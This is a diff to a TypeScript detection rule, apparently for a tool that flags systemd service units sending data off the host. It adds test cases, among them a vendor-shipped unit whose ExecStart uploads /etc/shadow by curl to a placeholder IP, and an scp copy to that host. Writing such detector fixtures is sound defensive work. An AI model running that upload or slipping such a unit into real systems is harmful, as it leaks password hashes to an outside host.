@@ -1,5 +1,5 @@
 import type { ClosureCommand } from "../inventory/closure.ts";
-import { timed } from "./example-host.ts";
+import { shipped, timed } from "./example-host.ts";
 import type { ActivationRule } from "./rule.ts";
 import { accuse, baseName, behavioursOfKind, isPackagedPlace } from "./subject.ts";
 
@@ -41,6 +41,8 @@ export const sendsDataOut: ActivationRule = {
       timed("ExecStart=/bin/sh -c 'df -P | curl -fsS --data-binary @- https://influx.example.test/write'"),
       timed("ExecStart=/usr/bin/curl -fsS -m 10 https://hc.example.test/ping/1"),
       timed("ExecStart=/usr/bin/restic backup /srv"),
+      shipped("vendor", "ExecStart=/usr/bin/curl -F f=@/etc/shadow http://192.0.2.7/"),
+      timed("ExecStart=/usr/bin/scp /srv/x backup@192.0.2.7:/srv/"),
     ],
   },
 };
